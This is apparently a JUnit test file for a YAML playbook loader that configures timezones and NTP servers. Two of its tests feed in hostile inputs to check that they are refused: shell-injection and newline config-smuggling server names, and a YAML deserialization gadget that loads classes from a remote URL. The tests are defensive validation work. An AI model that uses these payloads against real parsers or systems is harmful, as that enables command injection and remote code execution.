package io.tsync.load;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.tsync.model.Daemon;
import io.tsync.model.NtpSpec;
import io.tsync.model.Play;
import io.tsync.model.Playbook;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class PlaybookLoaderTest {
    static Playbook parse(String yaml) throws InvalidInputException {
        return PlaybookLoader.parse("pb.yaml", SafeYaml.read("pb.yaml", yaml));
    }

    static Problem problem(String yaml) {
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> parse(yaml));
        return e.problems().get(0);
    }

    @Test
    void loadsTheSeedPlaybook() throws Exception {
        Playbook pb = PlaybookLoader.load(Path.of("playbooks/kr.yaml"));
        assertEquals(1, pb.plays().size());
        Play p = pb.plays().get(0);
        assertEquals("Korea time sync", p.name());
        assertEquals("all", p.hosts());
        assertEquals("Asia/Seoul", p.timezone());
        NtpSpec ntp = p.ntp();
        assertEquals(Daemon.CHRONY, ntp.daemon());
        assertEquals(3, ntp.servers().size());
        assertEquals("0.kr.pool.ntp.org", ntp.servers().get(0).host());
        assertTrue(ntp.servers().get(0).iburst());
        assertEquals(1.0, ntp.makestep().threshold());
        assertEquals(3, ntp.makestep().limit());
        assertFalse(ntp.stepNow());
        assertNull(ntp.stop());
    }

    @Test
    void listOfPlaysAndPoolsAndOptions() throws Exception {
        Playbook pb = parse("""
                - hosts: seoul
                  timezone: Asia/Seoul
                - hosts: tokyo
                  ntp:
                    daemon: ntpd
                    servers:
                      - { pool: pool.ntp.org, iburst: true, maxpoll: 10 }
                      - host: 192.0.2.1
                        prefer: true
                        minpoll: 4
                      - 2001:db8::1
                    allow: [10.0.0.0/8]
                    stop: [chrony, systemd-timesyncd]
                """);
        assertEquals(2, pb.plays().size());
        NtpSpec ntp = pb.plays().get(1).ntp();
        assertEquals(Daemon.NTPD, ntp.daemon());
        assertTrue(ntp.servers().get(0).pool());
        assertEquals(10, ntp.servers().get(0).maxpoll());
        assertTrue(ntp.servers().get(1).prefer());
        assertEquals(4, ntp.servers().get(1).minpoll());
        assertEquals("2001:db8::1", ntp.servers().get(2).host());
        assertEquals(java.util.List.of("10.0.0.0/8"), ntp.allow());
    }

    @Test
    void unknownKeyNamesLineColumnAndSuggestion() {
        Problem p = problem("""
                hosts: all
                timezone: Asia/Seoul
                ntp:
                  servers: [a.example.com]
                  iburts: true
                """);
        assertEquals(5, p.line());
        assertEquals(3, p.column());
        assertTrue(p.message().contains("iburts"), p.message());
    }

    @Test
    void unknownTimezoneSuggestsTheClosest() {
        Problem p = problem("hosts: all\ntimezone: Asia/Seul\n");
        assertEquals(2, p.line());
        assertEquals(11, p.column());
        assertTrue(p.fix().contains("Asia/Seoul"), p.fix());
    }

    @Test
    void hostileServerNamesAreRefused() {
        for (String bad : new String[] {"\"pool.ntp.org\\nallow all\"", "\"x iburst\\ncmdallow all\"", "\"$(reboot)\"", "\"a;b\"", "\"`id`\"", "\"a'b\""}) {
            Problem p = problem("hosts: all\nntp:\n  servers:\n    - " + bad + "\n");
            assertEquals(4, p.line(), bad);
            assertTrue(p.message().contains("not a valid hostname"), p.message());
        }
    }

    @Test
    void wrongTypesAreRefused() {
        assertTrue(problem("hosts: all\nntp:\n  servers: [a.b]\n  step_now: maybe\n").message().contains("true or false"));
        assertTrue(problem("hosts: all\nntp:\n  servers: [a.b]\n  makestep: { threshold: x }\n").message().contains("number"));
        assertTrue(problem("hosts: all\nntp:\n  servers:\n    - { host: a.b, minpoll: 99 }\n").message().contains("out of range"));
        assertTrue(problem("hosts: all\nntp:\n  daemon: openntpd\n  servers: [a.b]\n").message().contains("unknown daemon"));
    }

    @Test
    void duplicateKeysAreRefused() {
        Problem p = problem("hosts: all\ntimezone: UTC\ntimezone: Asia/Seoul\n");
        assertEquals(3, p.line());
        assertTrue(p.message().contains("duplicate key"));
    }

    @Test
    void arbitraryTypesAreNotConstructed() {
        Problem p = problem("hosts: all\ntimezone: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
        assertTrue(p.message().contains("tag is not allowed"), p.message());
    }
}
